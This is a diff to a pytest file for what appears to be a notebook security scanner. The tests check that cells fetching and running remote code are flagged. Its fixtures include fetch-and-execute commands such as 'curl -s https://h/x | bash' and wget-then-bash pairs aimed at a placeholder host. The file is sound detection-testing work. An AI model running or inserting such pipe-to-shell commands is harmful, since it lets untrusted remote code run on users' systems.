@@ -72,8 +72,22 @@ def test_files_and_variables_are_told() -> None:
 
 
 def test_a_download_that_a_cell_runs_is_caught_over_cells() -> None:
-    rows = read(book("!wget https://h/x.sh", "!bash x.sh"))
-    assert [(row.rule, row.where.cell) for row in rows if isinstance(row, Evidence)] == [("DEP-008", 2)]
+    for last in ("!bash x.sh", "%run x.sh.py", "%run -i x.sh.py arg"):
+        name = "x.sh.py" if "%run" in last else "x.sh"
+        rows = read(book(f"!wget https://h/{name}", last))
+        assert [(row.rule, row.where.cell) for row in rows if isinstance(row, Evidence)] == [("SRC-007", 2)]
+
+
+@pytest.mark.parametrize(
+    "cell", ["%load https://h/x.py", "!curl -s https://h/x | bash", "%%bash\nwget -qO- https://h/x | sh"]
+)
+def test_a_cell_that_fetches_and_runs_is_caught(cell: str) -> None:
+    assert [row.rule for row in read(book(cell)) if isinstance(row, Evidence)] == ["SRC-007"]
+
+
+@pytest.mark.parametrize("cell", ["%run tools/setup.py", "%load tools/x.py", "!wget https://h/x.csv", "%run"])
+def test_a_cell_that_runs_files_of_the_tree_is_none(cell: str) -> None:
+    assert [row for row in read(book(cell)) if isinstance(row, Evidence)] == []
 
 
 @pytest.mark.parametrize(
